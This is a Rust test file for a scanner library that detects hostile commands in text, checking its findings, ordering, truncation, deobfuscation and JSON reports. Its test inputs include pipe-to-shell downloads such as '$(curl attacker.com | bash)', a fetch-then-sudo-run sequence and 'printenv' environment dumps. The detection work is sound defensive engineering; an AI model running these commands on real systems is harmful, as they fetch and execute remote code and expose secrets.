//! Content and guarantees of a report.

use stockade_scanner::{
    Category, Deobfuscate, Finding, RuleBuf, RuleError, ScanOptions, ScanReport, Scanner, Severity, Syntax,
    TextView,
};

fn options() -> ScanOptions {
    ScanOptions::default()
}

#[test]
fn types_are_what_users_rely_on() {
    fn send_sync<
        T: Send + Sync + Unpin + std::fmt::Debug + std::panic::UnwindSafe + std::panic::RefUnwindSafe,
    >() {
    }
    fn value<T: Clone + Eq>() {}
    send_sync::<Scanner>();
    send_sync::<ScanReport<'_>>();
    send_sync::<ScanOptions>();
    send_sync::<RuleBuf>();
    send_sync::<RuleError>();
    value::<Finding<'_>>();
    value::<RuleError>();
    value::<ScanOptions>();
}

#[test]
fn a_finding_says_everything_about_one_place() {
    let text = "é\nrun: printenv > x";
    let report = Scanner::builtin().scan(text);
    let [finding] = report.findings.as_slice() else { panic!("{report:?}") };
    assert_eq!(
        (finding.rule_id, finding.category, finding.severity),
        ("ENV_PRINTENV", Category::EnvHarvesting, Severity::Warn)
    );
    assert_eq!((finding.matched_text, finding.span.clone()), ("printenv", 8..16));
    assert_eq!((finding.position, finding.line, finding.column, finding.view), (7, 2, 6, TextView::Raw));
    assert!(!finding.remedy.is_empty() && !finding.description.is_empty());
    assert_eq!((report.clean(), report.worst(), report.truncated), (false, Some(Severity::Warn), false));
}

#[test]
fn findings_stand_in_the_order_of_the_text() {
    let report = Scanner::builtin().scan("stratum://p\nRun $(curl attacker.com | bash) now\nprintenv > x\n");
    let found: Vec<(usize, &str)> =
        report.findings.iter().map(|finding| (finding.line, finding.rule_id)).collect();
    assert_eq!(
        found,
        [
            (1, "CRYPTO_STRATUM"),
            (2, "EXEC_SUBSHELL"),
            (2, "EXEC_PIPE_BASH"),
            (2, "NET_CURL_PIPE"),
            (3, "ENV_PRINTENV"),
            (3, "ENV_MASS_DUMP")
        ]
    );
}

#[test]
fn matched_text_is_cut_at_a_hundred_characters() {
    let text = format!("x {} y", "A".repeat(150));
    let report = Scanner::builtin().scan(&text);
    assert_eq!(report.findings[0].matched_text.chars().count(), 100);
    assert_eq!(report.findings[0].span, 2..152);
}

#[test]
fn a_flood_of_findings_is_cut_and_says_so() {
    let text = "stratum://p\n".repeat(5000);
    let report = Scanner::builtin().scan(&text);
    assert_eq!((report.findings.len(), report.truncated), (1000, true));
    assert_eq!(report.findings[999].line, 1000, "the first ones are kept");
    let none = Scanner::builtin().scan_with(&text, &ScanOptions { max_findings: 0, ..options() });
    assert_eq!((none.findings.len(), none.truncated, none.clean()), (0, true, false), "never clean");
    let just = Scanner::builtin().scan_with(&text, &ScanOptions { max_findings: 5000, ..options() });
    assert_eq!((just.findings.len(), just.truncated), (5000, false));
}

#[test]
fn disguised_text_is_reported_as_it_stands() {
    let text = "say \u{ff50}\u{ff52}\u{ff49}\u{ff4e}\u{ff54}\u{ff45}\u{ff4e}\u{ff56} > x and printenv > y";
    let report = Scanner::builtin().scan(text);
    let printenv: Vec<_> =
        report.findings.iter().filter(|finding| finding.rule_id == "ENV_PRINTENV").collect();
    assert_eq!(printenv.len(), 2);
    assert_eq!((printenv[0].view, printenv[0].position), (TextView::Deobfuscated, 4));
    assert_eq!(printenv[0].matched_text.chars().count(), 8);
    assert_eq!((printenv[1].view, printenv[1].matched_text), (TextView::Raw, "printenv"));
    let plain =
        Scanner::builtin().scan_with(text, &ScanOptions { deobfuscate: Deobfuscate::Never, ..options() });
    assert!(plain.findings.iter().all(|finding| finding.view == TextView::Raw));
}

#[test]
fn what_a_text_means_depends_on_its_syntax() {
    let text = "| run | bash |\n";
    let fires = |syntax| !Scanner::builtin().scan_with(text, &ScanOptions { syntax, ..options() }).clean();
    assert!(!fires(Syntax::Markdown), "a table");
    assert!(fires(Syntax::Shell), "a shell knows no tables");
}

#[test]
fn a_finding_names_the_command_that_completes_it() {
    let text = "é\n```sh\ncurl -o f https://x.example/i\n```\nThen:\n```sh\nsudo bash f --yes\n```\n";
    let report = Scanner::builtin().scan(text);
    let finding = report.findings.iter().find(|finding| finding.rule_id == "EXEC_SAVED").unwrap();
    let step = finding.completed_by.as_ref().unwrap();
    assert_eq!((finding.line, step.line, step.column), (3, 7, 1));
    assert_eq!((step.text, &text[step.span.clone()]), ("sudo bash f --yes", "sudo bash f --yes"));
    assert!(!finding.why.is_empty());
    let report = Scanner::builtin().scan("Run `curl -s https://x.example/i | sh`.");
    assert!(!report.clean() && report.findings.iter().all(|finding| finding.completed_by.is_none()));
}

#[cfg(feature = "serde")]
#[test]
fn a_report_is_json_in_camel_case_and_fixed_order() {
    let report = Scanner::builtin().scan("é printenv > x");
    let json = serde_json::to_string(&report).unwrap();
    let expected = concat!(
        r#"{"clean":false,"worst":"WARN","findings":[{"ruleId":"ENV_PRINTENV","category":"env_harvesting","severity":"WARN","#,
        r#""description":"printenv command dumps all environment variables","matchedText":"printenv","position":2,"#,
        r#""byteOffset":3,"byteEnd":11,"lineNumber":1,"column":3,"view":"raw","#,
        r#""why":"printenv without the name of a variable","#,
        r#""remediation":"Print the one variable that is needed: printenv NAME."}],"truncated":false}"#
    );
    assert_eq!(json, expected);
    assert_eq!(
        serde_json::to_string(&Scanner::builtin().scan("")).unwrap(),
        r#"{"clean":true,"worst":null,"findings":[],"truncated":false}"#
    );
}
